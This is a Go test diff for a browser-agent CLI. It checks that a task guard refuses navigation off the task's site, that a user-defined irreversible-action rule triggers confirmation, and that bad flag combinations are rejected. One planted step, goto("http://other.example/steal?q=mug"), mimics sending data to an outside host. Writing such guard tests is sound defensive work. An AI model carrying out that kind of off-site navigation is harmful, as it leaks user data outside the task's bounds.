@@ -8,6 +8,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/pilotkit/pilot/policy/openai/openaitest"
 )
@@ -163,5 +164,44 @@ func TestEvalAmbiguousAsksAModelUser(t *testing.T) {
 	}
 	if len(srv.Requests()) == 0 {
 		t.Error("the model-backed user never called the model")
+	}
+}
+
+// --irreversible adds the user's own rules to the gate; --guard (on by
+// default) refuses a goto off the task's site.
+func TestRunIrreversibleRulesAndGuard(t *testing.T) {
+	t.Parallel()
+	solve, err := os.ReadFile(filepath.Join("..", "..", "evals", "suites", "demosuite", "solve.actions"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	plan := writePlan(t, `goto("http://other.example/steal?q=mug")`, string(solve))
+	rec := t.TempDir()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	code, out, errs := pilot(ctx, "run", "--serve", "../../evals/suites/demosuite", "--url", "/index.html", "--policy", "replay", "--actions", plan,
+		"--answer", "$12.50", "--irreversible", "button:Search", "--confirm", "always", "--human", "simulated", "--record", rec)
+	if code != 0 {
+		t.Fatalf("exit %d\n%s\n%s", code, out, errs)
+	}
+	b, err := os.ReadFile(filepath.Join(rec, "trajectory.jsonl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(b), "refused by the task guard: goto other.example leaves the task's sites (127.0.0.1:") {
+		t.Errorf("the goto off the site was not refused by the guard:\n%.2000s", b)
+	}
+	if !strings.Contains(string(b), `the rule button:Search marks it irreversible`) || !strings.Contains(out, "reward 1") {
+		t.Errorf("the gate did not ask before the Search button, or the task failed:\n%s\n%.2000s", out, b)
+	}
+	for _, bad := range [][]string{
+		{"--irreversible", "click:Buy", "--confirm", "auto"},
+		{"--irreversible", "button:Buy"},
+	} {
+		args := append([]string{"run", "--serve", "../../evals/suites/demosuite", "--url", "/index.html", "--policy", "replay", "--actions", plan}, bad...)
+		code, _, errs := pilot(ctx, args...)
+		if code != 2 || !strings.Contains(errs, "--irreversible") {
+			t.Errorf("%v: exit %d, %s; want a usage error about --irreversible", bad, code, errs)
+		}
 	}
 }
